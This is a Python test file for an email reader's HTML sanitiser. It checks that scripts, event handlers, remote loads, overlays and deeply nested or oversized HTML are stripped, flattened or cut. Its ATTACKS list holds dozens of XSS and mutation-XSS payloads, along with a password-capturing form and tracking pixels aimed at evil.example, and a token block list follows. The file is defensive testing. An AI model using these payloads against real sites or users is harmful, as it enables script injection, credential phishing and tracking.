"""The HTML of strangers is shown without running anything, fetching anything, or leaving its place."""

import pytest

from channels.email.reading import Limits, read, without_remote_images
from channels.email.reading.html import sanitise
from channels.email.reading.nesting import DEEPEST, flatten, shorten
from tests.channels.email.reading.letters import mail

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<div style='background-image:url(https://evil.example/t.gif)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='margin-top:-9999px'>x</div>",
    "<div style='width:99999px'>x</div>",
    "<div style='b\\61ckground:url(x)'>x</div>",
    "<div style='display:none'>x</div>",
    "<table background=https://evil.example/t.gif><tr><td>x</td></tr></table>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<img srcset='https://evil.example/t.gif 2x'>",
    "<p id=location name=cookie class=modal-backdrop>x</p>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
]
NEVER = """
    <script <svg <math <style <form <input <button <iframe <object <embed <meta <base <link <video <template <noscript
    <textarea onerror onload javascript: vbscript: expression url( position display srcset background= evil.example/t
    <!-- data:text -9999 99999 class= id= svg+xml
"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_behind(attack: str) -> None:
    safe = sanitise(f"<p>before</p>{attack}<p>after</p>").lower()
    # A title may keep harmless text; what is escaped does not run.
    shown = safe.replace("&lt;", "").replace("&gt;", "")
    assert not [word for word in NEVER.split() if word in shown and not (word == "onerror" and "title=" in safe)], safe
    assert "before" in safe


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_cleaned_once_stays_as_it_is(attack: str) -> None:
    once = sanitise(attack)
    # Attributes may change places, nothing else.
    assert sorted(sanitise(once)) == sorted(once)


def test_structure_text_and_harmless_styles_stay() -> None:
    html = (
        '<p style="color:red;font-size:12pt">太字 <b>x</b></p><table border="1"><tr><td width="10">a</td></tr></table>'
    )
    safe = sanitise(html)
    assert '<p style="color:red;font-size:12pt">太字 <b>x</b></p>' in safe
    assert '<td width="10">a</td>' in safe


def test_links_tell_nothing_of_the_desk_and_open_elsewhere() -> None:
    safe = sanitise('<a href="https://example.com/x?a=1&amp;b=2" rel="opener" onclick="x()">x</a>')
    assert 'href="https://example.com/x?a=1&amp;b=2"' in safe
    assert 'rel="noopener noreferrer nofollow"' in safe
    assert 'target="_blank"' in safe
    assert "onclick" not in safe


def test_remote_pictures_are_blocked_on_request_and_others_stay() -> None:
    safe = sanitise(
        '<img src="https://t.example/1.gif" alt="a > b"><img src="cid:p@x"><img src="data:image/png;base64,AA==">'
    )
    quiet, blocked = without_remote_images(safe)
    assert blocked == 1
    assert ' src="https' not in quiet
    assert 'data-remote-src="https://t.example/1.gif"' in quiet
    assert 'src="cid:p@x"' in quiet and 'src="data:image/png;base64,AA=="' in quiet
    assert without_remote_images(quiet) == (quiet, 0)


def test_text_that_looks_like_a_picture_is_left_alone() -> None:
    safe = sanitise('<p>&lt;img src="https://t.example/1.gif"&gt;</p>')
    assert without_remote_images(safe) == (safe, 0)


def test_html_becomes_lines_that_a_person_would_read() -> None:
    html = (
        "<html><head><title>t</title><style>p{}</style></head><body><h1>Title</h1><p>one<br>two</p><ul><li>a<li>b</ul>"
        "<table><tr><td>x</td><td>y</td></tr></table><pre>  pre\n  text</pre><div style='display:none'>hidden</div>"
        "a&nbsp;b &amp; c</body></html>"
    )
    found = read(mail(html, Content_Type="text/html; charset=utf-8")).text
    assert found == "Title\n\none\ntwo\n\n- a\n- b\n\nx y\n\n  pre\n  text\n\na b & c"


def test_shallow_html_is_not_touched() -> None:
    html = "<div>" * 100 + "x" + "</div>" * 100
    assert flatten(html) == html


def test_deep_html_becomes_shallow_and_keeps_its_text() -> None:
    html = "".join(f"<div>{number}" for number in range(1_000)) + "</div>" * 1_000
    flat = flatten(html)
    assert flat.count("<div>") == DEEPEST == flat.count("</div>")
    assert "999" in flat


def test_pictures_inside_the_html_give_way_to_its_text() -> None:
    html = f'<img src="data:image/png;base64,{"A" * 50_000}"><p>text</p>'
    assert shorten(html, 1_000).endswith("<p>text</p>")


def test_html_that_is_too_long_is_cut_and_marked() -> None:
    found = read(mail("<p>text</p>" * 1_000, Content_Type="text/html"), limits=Limits(html=500))
    assert "text-cut" in found.marks
    assert found.text.startswith("text")
